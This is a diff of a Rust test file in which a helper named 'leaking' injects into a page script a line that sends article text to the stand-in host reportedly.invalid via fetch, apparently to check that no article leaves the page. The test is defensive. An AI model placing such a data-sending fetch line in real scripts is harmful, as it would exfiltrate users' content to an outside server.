@@ -5,16 +5,14 @@ use reportedly_tests::{Page, State, Visit, visit};
 
 use crate::elements::{inside, page_of, page_with};
 use crate::sharing::share;
-use crate::texts::{read_ferry, replaced, words};
+use crate::texts::{at_each_text, read_ferry, words};
 
 /// A link to a short text.
 const LINK: &str = include_str!("../links/1-article.link");
 
 /// The worker of somebody who wants the article.
 fn leaking(script: &str) -> String {
-    let takes = "const{text,rules}=this.#wanted;";
-    let sends = "fetch('http://reportedly.invalid/?' + encodeURIComponent(text)).catch(() => {});";
-    replaced(script, takes, &[takes, sends].join(" "))
+    at_each_text(script, "fetch('http://reportedly.invalid/?' + encodeURIComponent(text)).catch(() => {});")
 }
 
 async fn no_article_leaves(page: &Page) {
